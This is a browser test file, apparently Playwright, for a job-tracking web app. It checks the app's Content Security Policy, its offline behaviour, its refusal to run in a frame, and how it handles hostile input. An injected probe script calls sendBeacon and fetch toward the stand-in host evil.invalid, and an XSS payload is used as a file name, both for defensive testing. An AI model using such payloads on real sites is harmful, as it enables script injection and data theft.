// No way in, nothing out: no request but for the site's own files, no frame, and no text that runs.

import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { NO_COUNTRY, logInterview, settles, visit } from './lib/app.mjs';
import { sources } from './lib/build.mjs';
import { HOSTILE, shown } from './lib/hostile.mjs';
import { expect, test } from './lib/journey.mjs';
import { MESSAGE, decode, news, opening, person, touch } from './lib/record.mjs';
import { DIST } from './lib/site.mjs';
import { TIME, each } from './lib/states.mjs';
import { seed } from './lib/storage.mjs';

const ITEMS = {
  p: person('Anna Berg', 'interviewer', { phone: '+44 20 7946 0000', email: 'anna@halden.invalid' }),
  r: person('Tom Reed', 'reference'),
  i: { interview: { date: '2026-02-20', met: ['p'] } },
  t: touch('2026-03-06', MESSAGE, { to: ['p'], note: 'Back on Monday.' }),
  n: news('2026-03-06', 'asked_references'),
};

/** Every address there is; `src/route.rs` lists them. */
const ROUTES = [
  '#/',
  '#/openings',
  '#/opening/o1',
  '#/log',
  '#/log/o1',
  '#/log/interview',
  '#/log/interview/o1',
  '#/call/o1',
  '#/call/o1/cadence',
  '#/letter/o1',
  '#/letter/o1/letter/p',
  '#/details/o1',
  ...Object.keys(ITEMS).map((item) => `#/item/o1/${item}`),
  '#/settings',
  '#/backup',
  '#/method',
  ...Array.from({ length: 14 }, (_, rule) => `#/method/r${rule + 1}`),
  '#/nowhere',
];

test('no request on any page, and none is missed offline', async ({ open }) => {
  const { page, context, site, goto } = await open({ ...NO_COUNTRY, path: null });
  await seed(page, site, [opening('o1', { company: 'Halden', role: 'Planner' }, ITEMS)]);
  await goto();
  await page.getByRole('main').waitFor();
  await page.evaluate(() => navigator.serviceWorker.ready);
  // The chunks of the later pages come by themselves.
  await page.waitForLoadState('networkidle');
  const requests = [];
  // The browser itself may ask for the icon of a page again, once it is called another name.
  const icon = new URL('icon.svg', site.url).href;
  context.on('request', (request) => request.url() !== icon && requests.push(request.url()));
  const walk = async () => {
    for (const route of ROUTES) {
      await visit(page, route);
      await page.locator('main h1').first().waitFor();
    }
  };
  await walk();
  expect(requests).toEqual([]);

  // From the second visit on the worker answers.
  await page.reload();
  await page.getByRole('main').waitFor();
  await page.waitForLoadState('networkidle');
  requests.length = 0;
  await context.setOffline(true);
  await walk();
  expect(requests).toEqual([]);
});

test('in a frame it does not start', async ({ open }) => {
  const { page, site, goto } = await open({ path: null });
  site.change('frame.html', '<!doctype html><link rel="icon" href="data:,"><iframe src="./" title="app"></iframe>');
  await page.addInitScript(() => addEventListener('TrunkApplicationStarted', () => {
    globalThis.began = true;
  }));
  await goto('frame.html');
  const frame = page.frameLocator('iframe');
  await frame.getByRole('link', { name: 'Curtain Call' }).waitFor();
  // The module has run, and left it at that: the frame of the page, with nothing in it.
  await page.waitForFunction(() => frames[0].began);
  await expect(frame.locator('#boot')).toHaveCount(1);
  for (const role of ['heading', 'button', 'textbox']) await expect(frame.getByRole('main').getByRole(role)).toHaveCount(0);
});

for (const file of ['index.html', 'rescue.html']) {
  test(`the policy of ${file} allows the files of the site and nothing else`, async () => {
    const html = await readFile(join(DIST, file), 'utf8');
    const [, policy] = /http-equiv="?Content-Security-Policy"? content="([^"]*)"/.exec(html);
    const rules = Object.fromEntries(policy.split(';').map((rule) => rule.trim().split(/ (.*)/s)));
    const { 'default-src': all, ...rest } = rules;
    expect(all).toBe("'none'");
    for (const name of ['base-uri', 'form-action']) expect(rest[name]).toBe("'none'");
    // What stands in the page itself is allowed by what it says.
    const allowed = new Set(["'self'", "'none'", "'wasm-unsafe-eval'", 'data:', ...sources(html, 'script', 'style')]);
    for (const [name, value] of Object.entries(rest)) {
      for (const source of value.split(' ')) expect(allowed.has(source) || !name.endsWith('-src'), `${name} ${source}`).toBeTruthy();
    }
    // No text becomes markup or a script, but by the few policies that the site names.
    expect(rules['require-trusted-types-for']).toBe("'script'");
    expect(rules['trusted-types']).toMatch(/^[a-z]+( [a-z]+)*$/);
  });
}

// What somebody would try who has got a script into the site itself. A debugger's own evaluation
// may do more than the page, so this is a file.
const PROBE = `
  globalThis.refused = [];
  document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
  const put = (name, parent, values) => {
    try {
      parent.append(Object.assign(document.createElement(name), values));
    } catch {
      // As it should be, for text that would be a script.
    }
  };
  put('p', document.body, { innerHTML: '<b id="markup">markup</b>' });
  put('script', document.head, { textContent: 'globalThis.ran = 1' });
  put('style', document.head, { textContent: 'p { color: red }' });
  put('img', document.body, { src: 'https://evil.invalid/x.png' });
  put('iframe', document.body, { src: 'https://evil.invalid/' });
  navigator.sendBeacon('https://evil.invalid/', 'x');
  try {
    new Function('globalThis.ran = 1')();
  } catch {
    // As it should be.
  }
  fetch('https://evil.invalid/').catch(() => {});
`;

test('the browser keeps to the policy', async ({ open }) => {
  const { page, site, goto, problems } = await open({ path: null });
  // A file of the site that the page loads anyway.
  site.change('update.js', `${await readFile(join(DIST, 'update.js'), 'utf8')}\n${PROBE}`);
  await goto('./');
  await page.getByRole('main').waitFor();
  // Of a text that would be markup or a script nothing gets as far as the other rules.
  const texts = Array(3).fill('require-trusted-types-for');
  const refused = ['connect-src', 'connect-src', 'frame-src', 'img-src', ...texts, 'style-src-elem'];
  await settles(() => page.evaluate(() => globalThis.refused?.toSorted()), refused);
  expect(await page.evaluate(() => globalThis.ran)).toBeUndefined();
  // Each would have failed any other journey.
  const noted = () => refused.filter((rule) => problems.some((problem) => problem.startsWith(`console: Content Security Policy, ${rule}: `)));
  await settles(noted, refused);
  await page.close();
  problems.length = 0;
});

// A page that is being watched: nothing has run, and no element came out of the text.
async function nothingRan(page) {
  const found = await page.evaluate(() => ({
    ran: globalThis.ran,
    elements: document.querySelectorAll(
      'main :is(script, img, iframe, object, embed, video, audio, marquee, base, meta, link, style, math, template, noscript), [onerror], [onload], [onfocus], a[href^="javascript" i]',
    ).length,
  }));
  expect(found).toEqual({ ran: undefined, elements: 0 });
}

/** What a page of an opening says, in one line. */
const words = (page) => page.locator('main').evaluate((main) => main.textContent.replace(/\s+/g, ' '));

test('eighty hostile texts typed into fields are shown as text', async ({ open }) => {
  const { page } = await open(NO_COUNTRY);
  expect(HOSTILE).toHaveLength(80);
  for (let at = 0; at < HOSTILE.length; at += 4) {
    const [company, role, one, two] = HOSTILE.slice(at, at + 4);
    await logInterview(page, { company, role, met: [one, two] });
    await nothingRan(page);
  }
  const kept = await page.evaluate(() => Object.entries({ ...localStorage }).filter(([key]) => /v1\/r\/(?!settings)/.test(key)));
  expect(kept).toHaveLength(20);
  const seen = new Set();
  for (const [key, value] of kept) {
    const { details, items } = decode(value).opportunity;
    const people = Object.values(items).map((item) => item.body?.contact?.name).filter(Boolean);
    const typed = [details.company, details.role, ...people];
    await visit(page, `#/opening/${key.split('/').at(-1)}`);
    for (const text of typed) {
      await settles(async () => (await words(page)).includes(shown(text)), true);
      seen.add(shown(text));
    }
    await nothingRan(page);
  }
  // A field of one line has no room for a null; everything else is there as it was typed.
  const expected = HOSTILE.map((text) => shown(text));
  expect(expected.filter((text) => !seen.has(text))).toEqual([]);
});

test('eighty hostile texts in a restored file are shown as text', async ({ open }) => {
  const { page } = await open(NO_COUNTRY);
  const opportunities = HOSTILE.map((text, at) => {
    const stamp = { at: 1_772_000_000_000, by: 1 };
    const items = {
      p: person(text, 'interviewer', { title: text, phone: text, email: text, note: text }),
      i: { interview: { date: '2026-03-06', met: ['p'], place: text } },
      o: { observation: { date: '2026-03-06', tag: 'impressed', text } },
      t: touch('2026-03-07', 'letter', { to: ['p'], note: text, purpose: 'letter' }),
      x: { note: { date: '2026-03-07', text } },
    };
    const stamped = Object.entries(items).map(([id, body]) => [id, { stamp, body }]);
    return { id: `h${at}`, stamp, details: { company: text, role: text, agency: text }, items: Object.fromEntries(stamped) };
  });
  const file = { app: 'curtain-call', schema: 1, settings: { stamp: { at: 1, by: 1 }, min: 5, max: 10, rhythm: 'Fri', name: HOSTILE[0] }, opportunities };
  await visit(page, '#/backup');
  await page.getByLabel('The file').setInputFiles({
    name: '"><img src=x onerror=ran=1>.json',
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify(file)),
  });
  await page.getByRole('button', { name: 'Restore', exact: true }).click();
  await settles(
    () => page.evaluate(() => Object.keys({ ...localStorage }).filter((key) => key.includes('v1/r/h')).length),
    HOSTILE.length,
  );
  for (const [at, text] of HOSTILE.entries()) {
    await visit(page, `#/opening/h${at}`);
    await settles(async () => (await words(page)).includes(shown(text)), true);
    await nothingRan(page);
    for (const route of [`#/call/h${at}`, `#/letter/h${at}`, `#/item/h${at}/p`]) {
      if (at % 8 !== 0) continue;
      await visit(page, route);
      await page.locator('main h1').first().waitFor();
      await nothingRan(page);
    }
  }
  await visit(page, '#/openings');
  await page.getByRole('table', { name: 'Openings' }).getByRole('rowheader').first().waitFor();
  await nothingRan(page);
});

test('hostile texts typed into every field of every page are shown as text', async ({ open }) => {
  const stage = await open({ ...NO_COUNTRY, time: TIME, path: null });
  const { page } = stage;
  let typed = 0;
  await each(stage, async (name) => {
    // Beside an open dialog nothing can be typed.
    const scope = (await page.locator('dialog[open]').count()) ? 'dialog[open]' : 'main';
    const fields = page.locator(`${scope} :is(input:not([type]), input[type=text], input[type=search], input[type=tel], input[type=email], textarea)`);
    for (const field of await fields.filter({ visible: true }).all()) {
      // What is typed into one may take another away.
      if (!(await field.isVisible())) continue;
      const text = HOSTILE[typed++ % HOSTILE.length];
      await field.fill(text);
      await expect(field, name).toHaveValue(text);
    }
    await nothingRan(page);
  });
  // Every text came up at least once.
  expect(typed).toBeGreaterThanOrEqual(HOSTILE.length);
});
